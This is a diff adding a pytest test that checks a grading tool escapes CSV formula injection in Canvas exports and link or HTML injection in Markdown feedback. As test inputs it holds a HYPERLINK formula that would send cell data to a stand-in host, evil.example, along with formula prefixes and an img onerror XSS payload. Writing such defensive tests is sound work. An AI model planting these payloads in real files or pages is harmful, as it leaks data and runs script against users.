@@ -152,3 +152,32 @@ def test_published_feedback_names_the_failed_hidden_tests(tmp_path: Path) -> Non
     assert "### softmax: test_hidden_rows_of_minus_inf (hidden test)" in after
     assert "observed: nan" in after and "further test(s)" not in after
     assert after.split("## 2.")[0].count("### ") == 1  # only the failed test, in its exercise's section
+
+
+def test_texts_of_a_course_and_of_students_are_escaped_in_csv_headers_and_markdown(
+        graded: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A formula in ``[canvas] assignment_name`` is a header, not a formula; a link in an id is text in feedback."""
+    import dataclasses
+
+    from grader import course
+    from grader.grading import report
+
+    formula = '=HYPERLINK("http://evil.example/?"&A3,"Grade")'
+    monkeypatch.setattr(course, "canvas", lambda: (formula, None))  # what course.toml's [canvas] gives
+    roster = write_roster(tmp_path / "r.csv", "folder,lms_id,name,email\nalice,1,A,a@x\n")
+    export.export(graded, export.read_graded(graded), roster, echo=lambda _: None)
+    header = next(csv.reader(io.StringIO((graded / "canvas.csv").read_text(encoding="utf-8"))))
+    assert header[5] == "'" + formula, header
+    for tab in ("\t=1+1", "@SUM(A1)", "-2+3", "+1"):
+        monkeypatch.setattr(course, "canvas", lambda tab=tab: (tab, None))
+        text = export.canvas_csv(export.read_graded(graded), export.match_roster(["alice"], {"alice": {
+            "folder": "alice"}}), {"alice": {"folder": "alice"}})
+        assert not next(csv.reader(io.StringIO(text)))[5].startswith(("=", "+", "-", "@", "\t")), text
+
+    mistune = pytest.importorskip("mistune")
+    evil = "[click](http:evil.example)"
+    monkeypatch.setattr(report, "load_curriculum", lambda: dataclasses.replace(load(), title=f"Course {evil}"))
+    results = fake_results(evil, 1.0)
+    results["extra_data"]["status"] = f"refused: {evil}.zip holds <img src=x onerror=alert(1)>"
+    page = mistune.create_markdown(plugins=["table", "url"])(report.feedback_markdown(results))
+    assert evil in page and "<a " not in page and "<img" not in page, page
